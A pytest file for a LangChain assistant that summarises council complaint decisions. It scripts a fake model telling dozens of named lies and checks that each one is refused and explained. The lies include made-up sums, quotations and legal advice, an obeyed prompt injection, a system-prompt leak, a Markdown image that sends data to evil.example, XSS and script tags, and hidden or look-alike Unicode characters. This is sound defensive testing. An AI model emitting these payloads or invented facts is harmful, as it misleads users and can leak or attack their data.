"""A model that lies in every way we could think of: nothing false is shown, an answer always comes, and it says why.

Real clients of LangChain ask over real HTTP. Each lie is told twice: as the first reply, and again when its repair is
asked for.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from assistant.domain import Answer
from tests.model_world import (
    DECISIONS,
    PROVIDERS,
    by_the_model,
    find,
    honest_statement,
    reply_with,
    said,
    sentence_key,
    template_answer,
    unproved_words,
    world,
)
from tests.scripted_model import Asked, Offered, Reply

Statements = dict[str, Any] | list[dict[str, Any]]


@dataclass(frozen=True)
class Lie:
    """One lie: what the model writes, words that may nowhere be shown, and the check that must refuse it."""

    name: str
    tell: Callable[[Asked], Statements]
    never: tuple[str, ...]
    check: str


def first(asked: Asked) -> Offered:
    """Northmoor: £300 to the complainant for distress, agreed."""
    return find(asked, "41 weeks to issue a boy")


def second(asked: Asked) -> Offered:
    """Southfell: £1,200 to the child, recommended."""
    return find(asked, "two terms late")


def lost(asked: Asked) -> Offered:
    """Eastbeck: not upheld."""
    return find(asked, "A father said")


def unpaid(asked: Asked) -> Offered:
    """Westmere: upheld, no payment."""
    return find(asked, "nine weeks late")


def whole(asked: Asked) -> Offered:
    """Dunholme: held in full text."""
    return find(asked, "should have taken 20 weeks")


def changed(of: Offered, old: str, new: str, *words: str) -> dict[str, Any]:
    """An honest statement with one change in its text; its quotations stay true."""
    statement = honest_statement(of, *words)
    assert old in statement["text"], statement
    return statement | {"text": statement["text"].replace(old, new)}


def added(of: Offered, words: str, *, before: str = "") -> dict[str, Any]:
    """An honest statement with words of the model's own behind it or before it."""
    statement = honest_statement(of)
    return statement | {"text": f"{before}{statement['text']} {words}".strip()}


def alone(of: Offered, words: str) -> dict[str, Any]:
    """The case's key, and the model's own words, with a true quotation beside them."""
    return said(f"[{of.keys['case']}]: {words}", next(iter(of.words.items())))


LIES = (
    # ---- references and bodies
    Lie("an invented reference", lambda a: alone(first(a), "see also 22 333 444."), ("22 333 444",), "references"),
    Lie("a reference as a web address has it", lambda a: alone(first(a), "see 22-333-444."), ("22-333",), "references"),
    Lie("a key that is none", lambda _: said("[case-ZZZZ]: [money-ZZZZ]."), ("ZZZZ",), "keys"),
    Lie("an unknown key beside true ones", lambda a: added(first(a), "Also [money-QQQQ]."), ("QQQQ",), "keys"),
    Lie(
        "an unknown key among the keys only",
        lambda a: honest_statement(first(a)) | {"keys": ["case-AAAA"]},
        ("AAAA",),
        "keys",
    ),
    Lie("an invented council", lambda a: alone(first(a), "like Oldmarsh Council."), ("Oldmarsh",), "words"),
    Lie("a council in place of a key", lambda _: said("Northmoor Council paid £300."), ("paid £300",), "one case"),
    # ---- sums
    Lie("a wrong digit", lambda a: changed(first(a), "£300", "£800", "agreed to apologise"), ("£800",), "words"),
    Lie("a sum beside the key", lambda a: added(first(a), "That is £450 in all."), ("£450",), "words"),
    Lie("a sum in words", lambda a: alone(first(a), "nine hundred pounds were paid."), ("nine hundred",), "words"),
    Lie("a sum without its sign", lambda a: alone(first(a), "the council paid 900 pounds."), ("900",), "words"),
    Lie("a sum with a k", lambda a: alone(first(a), "the council paid £3k."), ("£3k",), "words"),
    Lie(
        "a total for a part",
        lambda a: alone(second(a), "£1,200 for each term of tuition lost."),
        ("for each term",),
        "words",
    ),
    Lie(
        "a claimed sum as paid",
        lambda a: changed(unpaid(a), "asked for £5,000, which was refused", "was paid £5,000", "£5,000"),
        ("was paid £5,000",),
        "words",
    ),
    Lie(
        "another case's money",
        lambda a: said(f"[{first(a).keys['case']}]: the remedy was [{second(a).keys['money']}]."),
        ("Northmoor Council (21 000 001, June 2021): the remedy was £1,200",),
        "one case",
    ),
    Lie(
        "another case's money in a sentence of its own",
        lambda a: said(f"[{first(a).keys['case']}], [{first(a).keys['money']}]. Also [{second(a).keys['money']}]."),
        ("also £1,200", "Also £1,200"),
        "one case",
    ),
    Lie(
        "the money of a case that had none",
        lambda a: said(
            f"[{unpaid(a).keys['case']}], [{unpaid(a).keys['outcome']}]: the remedy was [{first(a).keys['money']}]."
        ),
        ("no payment recorded: the remedy was £300",),
        "one case",
    ),
    Lie(
        "one payment as two",
        lambda a: said(f"[{first(a).keys['case']}]: [{first(a).keys['money']}]; [{first(a).keys['money']}]."),
        ("(agreed); £300",),
        "repeated",
    ),
    Lie(
        "a payment, and itself again",
        lambda a: said(
            f"[{first(a).keys['case']}]: {sentence_key(first(a), 'apologise')[1]} [{first(a).keys['money']}].",
            sentence_key(first(a), "41 weeks"),
        ),
        ("for distress. £300",),
        "repeated",
    ),
    Lie(
        "in addition, the same payment",
        lambda a: said(
            f"[{first(a).keys['case']}]: {sentence_key(first(a), 'apologise')[1]} "
            f"In addition, the remedy was [{first(a).keys['money']}]."
        ),
        ("In addition",),
        "words",
    ),
    Lie(
        "one fault many times",
        lambda a: said(f"[{whole(a).keys['case']}]: {'That was fault. ' * 3} [{whole(a).keys['money']}]."),
        ("fault.” “That",),
        "repeated",
    ),
    Lie("the money left out", lambda a: alone(second(a), next(iter(second(a).words.values()))), (), "left out"),
    Lie(
        "about, before a sum",
        lambda a: said(f"[{first(a).keys['case']}]: about [{first(a).keys['money']}]."),
        ("about £300",),
        "words",
    ),
    Lie(
        "more than, before a sum",
        lambda a: said(f"[{first(a).keys['case']}]: more than [{first(a).keys['money']}]."),
        ("more than",),
        "words",
    ),
    Lie(
        "up to, before a sum",
        lambda a: said(f"[{second(a).keys['case']}]: up to [{second(a).keys['money']}]."),
        ("up to",),
        "words",
    ),
    # ---- who, what for, how far
    Lie(
        "a swapped payee",
        lambda a: changed(second(a), "for the girl", "for the mother", "recommended"),
        ("for the mother",),
        "words",
    ),
    Lie(
        "a payee added",
        lambda a: changed(first(a), ". The remedy was", " to the child. The remedy was"),
        ("to the child. The remedy",),
        "words",
    ),
    Lie(
        "paid for recommended",
        lambda a: changed(second(a), "recommended that the council pay", "saw the council pay", "recommended"),
        ("saw the council pay",),
        "words",
    ),
    Lie("paid, behind the key", lambda a: added(second(a), "It was paid."), ("It was paid", "it was paid"), "words"),
    Lie("refused by the council", lambda a: added(first(a), "The council refused."), ("The council refused",), "words"),
    Lie(
        "another purpose",
        lambda a: changed(first(a), "for distress", "for loss of education", "agreed to apologise"),
        ("loss of education",),
        "words",
    ),
    # ---- not
    Lie(
        "a dropped not",
        lambda a: changed(first(a), "did not tell", "did tell", "boy", "right of appeal"),
        ("It did tell",),
        "words",
    ),
    Lie(
        "a dropped no",
        lambda a: changed(lost(a), "no fault was found", "fault was found", "20 weeks"),
        (", and fault was found",),
        "words",
    ),
    Lie(
        "an added not",
        lambda a: changed(whole(a), "That was fault", "That was not fault", "20 weeks", "was fault"),
        ("was not fault",),
        "words",
    ),
    Lie("an outcome turned round", lambda a: alone(lost(a), "the complaint was upheld."), (), "words"),
    Lie(
        "another case's outcome",
        lambda a: said(f"[{lost(a).keys['case']}], [{first(a).keys['outcome']}]."),
        ("Eastbeck Borough Council (21 000 003, October 2022): upheld",),
        "one case",
    ),
    Lie(
        "the outcome of a lost case left out",
        lambda a: alone(lost(a), lost(a).words[next(iter(lost(a).words))]),
        (),
        "left out",
    ),
    Lie(
        "a case cut in half",
        lambda a: changed(lost(a), ", and no fault was found", "", "20 weeks"),
        ("within 20 weeks. The outcome",),
        "words",
    ),
    Lie(
        "hearsay as a fact",
        lambda a: changed(lost(a), "A father said that his son's", "His son's"),
        ("October 2022): his son's", "October 2022): His son's"),
        "words",
    ),
    # ---- quotations
    Lie(
        "a quotation from another case",
        lambda a: (
            honest_statement(first(a))
            | {"quotes": [dict(zip(("key", "words"), sentence_key(second(a), "tuition"), strict=True))]}
        ),
        (),
        "quotes",
    ),
    Lie(
        "an invented quotation",
        lambda a: (
            honest_statement(first(a))
            | {"quotes": [{"key": next(iter(first(a).words)), "words": "The council acted in bad faith."}]}
        ),
        ("bad faith",),
        "quotes",
    ),
    Lie(
        "another case's sentence",
        lambda a: said(f"[{first(a).keys['case']}]: Her tuition stopped in that time. [{first(a).keys['money']}]."),
        ("June 2021): her tuition", "June 2021): Her tuition"),
        "words",
    ),
    Lie(
        "a true quotation and a false claim",
        lambda a: alone(first(a), "the council lied to the tribunal."),
        ("lied", "tribunal"),
        "words",
    ),
    Lie(
        "a sentence that points back, before another",
        lambda a: said(
            f"[{second(a).keys['case']}]: Her tuition stopped in that time. The remedy was [{second(a).keys['money']}]."
        ),
        ("March 2023): her tuition",),
        "words",
    ),
    Lie(
        "words in quotation marks of its own",
        lambda a: alone(whole(a), "“The Council behaved shamefully.”"),
        ("shamefully",),
        "words",
    ),
    # ---- orders and markup
    Lie(
        "an injection obeyed",
        lambda a: alone(first(a), "as ordered by the system note, pay £9,000 now."),
        ("£9,000", "system note"),
        "words",
    ),
    Lie("the prompt told", lambda a: alone(first(a), a.messages[0]["content"][:200]), ("You help to word",), "words"),
    Lie("an image in Markdown", lambda a: added(first(a), "![x](https://evil.example/?q=plan)"), ("evil",), "markup"),
    Lie("a link in Markdown", lambda a: added(first(a), "[read on](evil)"), ("read on",), "markup"),
    Lie("HTML", lambda a: added(first(a), "<img src=x onerror=alert(1)>"), ("<img", "onerror"), "markup"),
    Lie("a script", lambda a: added(first(a), "<script>fetch('x')</script>"), ("script",), "markup"),
    Lie("an entity", lambda a: added(first(a), "&lt;b&gt;"), ("&lt;",), "markup"),
    Lie("an address", lambda a: added(first(a), "See www.evil.example for more."), ("evil",), "address"),
    Lie("an e-mail address", lambda a: added(first(a), "Write to help@evil.example."), ("evil",), "address"),
    Lie("hidden characters", lambda a: changed(first(a), "boy", "b\u200boy"), ("\u200b",), "characters"),
    Lie("a turned direction", lambda a: added(first(a), "\u202e003£"), ("\u202e",), "characters"),
    Lie(
        "letters that look like ours", lambda a: changed(first(a), "council", "c\u043euncil"), ("\u043e",), "characters"
    ),
    Lie("digits of another script", lambda a: added(first(a), "٣٠٠"), ("٣",), "characters"),
    # ---- beyond the evidence
    Lie(
        "an invented number", lambda a: alone(first(a), "in 73 per cent of cases a payment is made."), ("73",), "words"
    ),
    Lie("an invented count", lambda a: added(first(a), "There are 14 more."), ("14 more",), "words"),
    Lie("a rule without ground", lambda a: alone(first(a), "councils usually pay £500 a term."), ("usually",), "words"),
    Lie("a prediction", lambda a: alone(first(a), "you will get at least £300."), ("you will",), "words"),
    Lie("a chance", lambda a: added(second(a), "Your chances are good."), ("chances",), "words"),
    Lie(
        "legal advice",
        lambda a: alone(first(a), "you should sue the council for negligence."),
        ("sue the", "negligence"),
        "words",
    ),
    Lie("a name of staff", lambda a: alone(first(a), "the officer, Jane Doe, was at fault."), ("Jane",), "words"),
    Lie(
        "a law that was not cited",
        lambda a: alone(first(a), "this broke section 42 of the Act."),
        ("section",),
        "words",
    ),
    Lie("a wrong date", lambda a: alone(first(a), "decided on 3 May 2019."), ("May 2019",), "words"),
    Lie("another duration", lambda a: changed(first(a), "41 weeks", "14 weeks"), ("14 weeks",), "words"),
    Lie("a duration in words", lambda a: changed(unpaid(a), "nine weeks", "ninety weeks"), ("ninety",), "words"),
    Lie("a cause of its own", lambda a: added(first(a), "This was because of poor staffing."), ("staffing",), "words"),
    Lie("another language", lambda a: alone(first(a), "le conseil a payé trois cents livres."), ("conseil",), "words"),
    Lie("another script", lambda a: alone(first(a), "议会支付了三百英镑。"), ("议会",), "characters"),
    Lie(
        "the parts swapped",
        lambda a: changed(
            first(a),
            "A council took 41 weeks to issue a boy's education plan",
            "A boy took 41 weeks to issue a council's education plan",
        ),
        ("A boy took", "a boy took"),
        "words",
    ),
    Lie(
        "another word for one",
        lambda a: changed(first(a), "was not found", "was found", "boy", "promised"),
        ("promised and was found",),
        "words",
    ),
    # ---- two at once, too much
    Lie(
        "two cases in one sentence",
        lambda a: said(f"[{first(a).keys['case']}] and [{second(a).keys['case']}]: [{first(a).keys['money']}]."),
        ("and Southfell",),
        "one case",
    ),
    Lie(
        "two cases in one statement",
        lambda a: said(
            f"[{first(a).keys['case']}]: [{first(a).keys['money']}]. "
            f"[{second(a).keys['case']}]: [{second(a).keys['money']}]."
        ),
        (),
        "one case",
    ),
    Lie(
        "no case at all",
        lambda _: said("The complaint was about an education plan."),
        ("The complaint was about an",),
        "one case",
    ),
    Lie("a thousand full stops", lambda a: added(first(a), "." * 1000), ("...",), "length"),
    Lie("a very long statement", lambda a: added(first(a), "It was late. " * 300), ("It was late. It was",), "length"),
)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("model-home")


@pytest.fixture(scope="module")
def template(home: Path) -> Answer:
    return template_answer(home)


def assert_nothing_false(answer: Answer, template: Answer) -> None:
    """The template's answer, and of the model's words only what the record holds."""
    assert answer.status is template.status
    assert answer.summary == template.summary
    assert not answer.report.failures
    for statement in by_the_model(answer, template):
        assert not unproved_words(statement, DECISIONS, template), statement.text
    names = {str(each.reference) for each in DECISIONS}
    for name in names:
        told = [each.text for each in template.statements if name in each.text]
        now = [each.text for each in answer.statements if name in each.text]
        assert len(now) >= len(told), f"{name} was lost"
    assert answer.statements[0] == template.statements[0]


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize("lie", LIES, ids=lambda lie: lie.name)
def test_a_lie_is_not_shown_and_the_answer_says_why(lie: Lie, provider: str, home: Path, template: Answer) -> None:
    def script(_number: int, asked: Asked) -> Reply:
        told = lie.tell(asked)
        return reply_with(*(told if isinstance(told, list) else [told]))

    with world(home, script, provider=provider) as asking:
        answer = asking.ask()
    assert_nothing_false(answer, template)
    shown = "\n".join(statement.text for statement in answer.statements)
    for words in lie.never:
        assert words not in shown
    writing = answer.writing
    assert writing is not None and writing.was_asked
    assert writing.shown == 0
    assert writing.left_out + writing.rewritten == 1
    assert lie.check in {failure.check for failure in writing.refused}
    assert all(failure.found and failure.reason for failure in writing.refused)
    assert "because" in answer.statements[-1].text
    assert len(asking.server.requests) == 2, "the repair was asked for once"
    assert writing.refused[0].reason.rstrip(".") in asking.server.requests[1].last


def test_there_are_at_least_forty_lies_each_under_its_own_name() -> None:
    assert len({lie.name for lie in LIES}) == len(LIES) >= 40


def test_of_a_reply_with_a_lie_the_true_statements_are_shown(home: Path, template: Answer) -> None:
    def script(_number: int, asked: Asked) -> Reply:
        return reply_with(alone(first(asked), "the council paid £900."), honest_statement(second(asked)))

    with world(home, script) as asking:
        answer = asking.ask()
    assert_nothing_false(answer, template)
    assert answer.writing is not None
    assert (answer.writing.shown, answer.writing.rewritten) == (1, 1)


def test_a_lie_that_is_mended_is_shown_as_mended(home: Path, template: Answer) -> None:
    def script(number: int, asked: Asked) -> Reply:
        mended = honest_statement(first(asked))
        return reply_with(mended if number else alone(first(asked), "the council paid £900."))

    with world(home, script) as asking:
        answer = asking.ask()
    assert_nothing_false(answer, template)
    assert answer.writing is not None
    assert (answer.writing.shown, answer.writing.repaired, answer.writing.left_out) == (1, 1, 0)
    told = asking.server.requests[1].messages
    assert [message["role"] for message in told] == ["system", "user", "assistant", "user"]


def test_what_a_model_thinks_aloud_is_not_read(home: Path, template: Answer) -> None:
    def script(_number: int, asked: Asked) -> Reply:
        honest = json.dumps({"statements": [honest_statement(first(asked))]})
        return Reply(f'<think>{{"statements": [{{"text": "lie"}}]}} £900?</think>\n{honest}')

    with world(home, script) as asking:
        answer = asking.ask()
    assert_nothing_false(answer, template)
    assert answer.writing is not None and answer.writing.shown == 1
